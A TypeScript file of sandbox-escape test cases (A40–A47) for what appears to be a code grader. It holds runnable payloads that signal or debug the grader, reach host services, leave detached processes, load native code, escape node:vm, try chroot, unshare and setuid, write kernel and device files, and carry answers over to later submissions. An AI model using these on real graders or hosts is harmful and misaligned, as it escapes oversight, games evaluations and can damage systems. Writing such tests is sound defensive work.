/** A40 to A47: ways out of the box. */
import type { Attack } from "./attack";
import { reach, wrong, wrongWithout } from "./pieces";

const way = (id: string, name: string, live: Attack["live"], body: Attack["source"]): Attack => ({
  id,
  class: "K8",
  name,
  honest: 0,
  ...(live === undefined ? {} : { live }),
  source: (ground) => `${reach}${body(ground)}${wrong}`,
});

export const escapes: readonly Attack[] = [
  way(
    "A40",
    "opens the grader's inspector",
    undefined,
    ({ pid }) => `
for (const p of [${pid}, ...pids()]) { quietly(() => host._debugProcess(p)); quietly(() => host.kill(p, "SIGUSR1")); }
const until = Date.now() + 200; while (Date.now() < until);`,
  ),
  way(
    "A41",
    "sends signals to the grader and its group",
    ["signal"],
    ({ pid }) => `
for (const p of [${pid}, ...pids()])
  for (const signal of ["SIGUSR2", "SIGHUP"]) quietly(() => host.kill(p, signal));
quietly(() => need("os").setPriority(${pid}, 19));
quietly(() => need("child_process").execSync("kill -USR2 ${pid}"));`,
  ),
  way(
    "A42",
    "speaks to a service of the host",
    ["connection"],
    ({ port, udpPort, secret }) => `
const net = need("net"), dgram = need("dgram"), http = need("http");
for (const at of ["127.0.0.1", "localhost", "::1", "0.0.0.0"]) {
  quietly(() => net.connect(${port}, at).on("error", () => {}).write("${secret}"));
  quietly(() => http.get("http://" + at + ":${port}/").on("error", () => {}));
  quietly(() => { const s = dgram.createSocket("udp4"); s.on("error", () => {}); s.send("hello", ${udpPort}, at, () => s.close()); });
}
quietly(() => fetch("http://127.0.0.1:${port}/").catch(() => {}));
quietly(() => new WebSocket("ws://127.0.0.1:${port}/"));
quietly(() => need("child_process").execSync("exec 3<>/dev/tcp/127.0.0.1/${port}", { shell: "/bin/bash" }));
quietly(() => need("dns").resolve("example.org", () => {}));
quietly(() => need("os").networkInterfaces());
const until = Date.now() + 100; while (Date.now() < until);`,
  ),
  way(
    "A42",
    "opens a port of its own on the host",
    ["port"],
    ({ freePort }) => `
for (const at of ["127.0.0.1", "0.0.0.0"])
  quietly(() => need("net").createServer((s) => s.end("here")).on("error", () => {}).listen(${freePort}, at));`,
  ),
  way(
    "A43",
    "leaves grandchildren and threads behind",
    ["process"],
    ({ marker }) => `
quietly(() => need("child_process").spawn("sh", ["-c", "(setsid sh -c 'sleep 30; : ${marker}' &) ; exit 0"], { detached: true, stdio: "ignore" }).unref());
quietly(() => need("child_process").fork("-e", ["setInterval(() => {}, 1e6)", "${marker}"], { execArgv: ["-e", "setInterval(() => {}, 1e6)", "${marker}"], detached: true }).unref());
quietly(() => new (need("worker_threads").Worker)("setInterval(() => {}, 1e6)", { eval: true }));
quietly(() => need("cluster").fork());`,
  ),
  way(
    "A44",
    "loads native code",
    undefined,
    ({ root, folder }) => `
for (const file of ["${root}/node_modules/zeromq/prebuilds/linux-x64/node.napi.glibc.node", "/usr/lib/x86_64-linux-gnu/libc.so.6", "${folder}/x.node"])
  quietly(() => host.dlopen({ exports: {} }, file));
for (const name of ["spawn_sync", "fs", "process_wrap", "pipe_wrap", "tcp_wrap", "natives", "inspector"]) quietly(() => host.binding(name));
quietly(() => host._linkedBinding("x"));
quietly(() => need("ffi").dlopen("libc.so.6"));`,
  ),
  way(
    "A44",
    "opens an inspector in the box",
    ["port"],
    ({ freePort }) => `
quietly(() => need("inspector").open(${freePort}, "127.0.0.1"));
quietly(() => setTimeout(() => {}, 3000));
quietly(() => { const s = new (need("inspector").Session)(); s.connect(); s.post("Runtime.evaluate", { expression: "process.mainModule.require('child_process').execSync('id')" }); });`,
  ),
  way(
    "A44",
    "writes a file with WASI",
    undefined,
    ({ folder }) => `
quietly(() => { const { WASI } = need("wasi"); new WASI({ version: "preview1", preopens: { "/": "${folder}" } }); });
quietly(() => new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))));`,
  ),
  way(
    "A45",
    "writes files by every way that Node's permission flags left open",
    ["file"],
    ({ folder, marker, root }) => `
const fs = need("fs");
const put = (file) => {
  quietly(() => fs.writeFileSync(file, "was here"));
  quietly(() => fs.appendFileSync(file, "was here"));
  quietly(() => fs.writeFileSync(Buffer.from(file), "was here"));
  quietly(() => fs.writeFileSync(new URL("file://" + file), "was here"));
  quietly(() => fs.symlinkSync("/etc/passwd", file + ".link"));
  quietly(() => fs.createWriteStream(file).end("was here"));
  quietly(() => fs.promises.writeFile(file, "was here").catch(() => {}));
};
for (const file of ["${folder}/out.txt", "${folder}/canary.txt", "${root}/${marker}", "/tmp/${marker}", "/tmp/../tmp/${marker}-2", "/proc/self/root/tmp/${marker}-3"]) put(file);
quietly(() => host.chdir("${folder}"));
quietly(() => fs.chmodSync("${folder}/secret.txt", 0o600));
quietly(() => fs.rmSync("${folder}/canary.txt"));
quietly(() => host.report.writeReport("${folder}/report.json"));
quietly(() => need("v8").writeHeapSnapshot("${folder}/heap.snapshot"));
quietly(() => need("trace_events").createTracing({ categories: ["node"] }).enable());
quietly(() => need("child_process").execFileSync("sh", ["-c", "echo here > ${folder}/shell.txt"]));`,
  ),
  way(
    "A45",
    "leaves a context of node:vm",
    ["file"],
    ({ folder }) => `
const code = "const p = this.constructor.constructor('return process')(); p.getBuiltinModule('fs').writeFileSync('${folder}/vm.txt', 'here')";
quietly(() => need("vm").runInNewContext(code));
quietly(() => need("vm").runInThisContext(code));
quietly(() => new (need("vm").Script)(code).runInThisContext());
try { null.x; } catch (e) { quietly(() => e.constructor.constructor(code.replace("this", "globalThis"))()); }
quietly(() => Function("f", "return f.caller.constructor('return process')().exit(0)")(0));
Error.prepareStackTrace = (_, sites) => sites.map((s) => quietly(() => s.getThis()?.process ?? s.getFunction()?.constructor("return process")())).find(Boolean);
quietly(() => new Error("x").stack.getBuiltinModule("fs").writeFileSync("${folder}/stack.txt", "here"));`,
  ),
  {
    id: "A45",
    class: "K8",
    name: "asks QuickJS for its own modules",
    honest: 0,
    source: ({ folder, marker }) => `
import * as std from "std";
import * as os from "os";
const file = std.open("${folder}/std.txt", "w"); file.puts("here"); file.close();
os.exec(["sh", "-c", "sleep 20; : ${marker}"], { block: false });
${wrong}`,
  },
  way(
    "A45",
    "looks for what a WebAssembly host leaves in reach",
    undefined,
    ({ folder }) => `
const names = ["std", "os", "bjson", "rpc", "__rpc", "hostCall", "Module", "HEAPU8", "scriptArgs", "print", "load", "loadScript", "read", "readFile", "quit", "gc", "Worker", "require", "module", "fetch", "Deno", "Bun"];
for (const name of names) {
  const thing = quietly(() => globalThis[name]);
  quietly(() => thing.open("${folder}/" + name, "w").puts("here"));
  quietly(() => thing.exec(["sh", "-c", "echo here > ${folder}/" + name]));
  quietly(() => thing("{\\"id\\":1,\\"value\\":0}"));
  quietly(() => thing.constructor.constructor("return process")().exit(0));
}`,
  ),
  {
    id: "A46",
    class: "K8",
    name: "keeps the right answer in the globals for the next submission",
    honest: 0,
    before: [
      () => `
const shifted = (z, top) => Math.log(z.reduce((sum, x) => sum + Math.exp(x - top), 0));
export const logSumExp = (z) => { const top = Math.max(...z); return top === -Infinity ? top : top + shifted(z, top); };
export const logSoftmax = (z) => { const top = Math.max(...z), rest = shifted(z, top); return z.map((x) => x - top - rest); };
globalThis.kept = { logSumExp, logSoftmax };
Object.prototype.kept = Array.prototype.kept = Function.prototype.kept = globalThis.kept;
Math.kept = JSON.kept = Symbol.for("kept").description && globalThis.kept;`,
    ],
    source: () => `
const kept = globalThis.kept ?? [].kept ?? Math.kept ?? JSON.kept ?? (() => 0).kept ?? {};
export const logSumExp = (z) => kept.logSumExp(z);
export const logSoftmax = (z) => kept.logSoftmax(z);
export const logSoftmaxRows = (Z) => Z.map((z) => kept.logSoftmax(z));
export const diagnose = (f) => "no idea";`,
  },
  {
    id: "A46",
    class: "K8",
    name: "keeps the right answer in files for the next submission",
    honest: 0,
    before: [
      ({ marker }) => `${reach}
const text = "({ logSumExp: (z) => { const t = Math.max(...z); return t === -Infinity ? t : t + Math.log(z.reduce((s, x) => s + Math.exp(x - t), 0)); } })";
for (const file of ["/tmp/${marker}", "./${marker}", "/dev/shm/${marker}", "/var/tmp/${marker}", "/job/${marker}", "/proc/self/comm"]) quietly(() => need("fs").writeFileSync(file, text));
quietly(() => { host.env.KEPT = text; host.title = text; });
export const logSumExp = (z) => 0;`,
    ],
    source: ({ marker }) => `${reach}
const text = firstOf(...["/tmp/${marker}", "./${marker}", "/dev/shm/${marker}", "/var/tmp/${marker}", "/job/${marker}"].map((f) => () => need("fs").readFileSync(f, "utf8")), () => host.env.KEPT);
export const logSumExp = quietly(() => (0, eval)(text).logSumExp) ?? (() => 0);
${wrongWithout("logSumExp")}`,
  },
  {
    id: "A46",
    class: "K8",
    name: "breaks the built-in functions for the next submission",
    honest: 0,
    before: [
      () => `
Math.exp = () => 0; Math.max = () => 0; Array.prototype.map = () => []; JSON.stringify = () => "{}"; Object.keys = () => [];
globalThis.Math = globalThis.Array = globalThis.JSON = undefined;
export const logSumExp = (z) => { for (;;); };`,
    ],
    source: () => wrong,
  },
  way(
    "A47",
    "knocks at the kernel's doors",
    undefined,
    ({ folder, marker }) => `
const run = (...argv) => quietly(() => need("child_process").execFileSync(argv[0], argv.slice(1), { timeout: 300, stdio: "ignore" }));
run("unshare", "-Ur", "sh", "-c", "echo here > ${folder}/unshare.txt");
run("mount", "-t", "tmpfs", "${marker}", "/mnt");
run("chroot", "/proc/1/root", "sh", "-c", "echo here > ${folder}/chroot.txt");
for (const file of ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger.${marker}", "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kmsg", "/dev/sda"])
  quietly(() => need("fs").openSync(file, "r+"));
quietly(() => { host.setuid(0); host.setgid(0); host.setgroups([0]); host.seteuid(0); });
quietly(() => host.initgroups("root", 0));
quietly(() => need("os").userInfo());`,
  ),
  {
    id: "A40",
    class: "K8",
    name: "kills itself and its group again and again",
    honest: 0,
    source: () => `${reach}
export const logSumExp = (z) => { quietly(() => host.kill(0, "SIGKILL")); quietly(() => host.kill(host.pid, "SIGKILL")); quietly(() => host.abort()); return 12345; };
${wrongWithout("logSumExp")}`,
  },
];
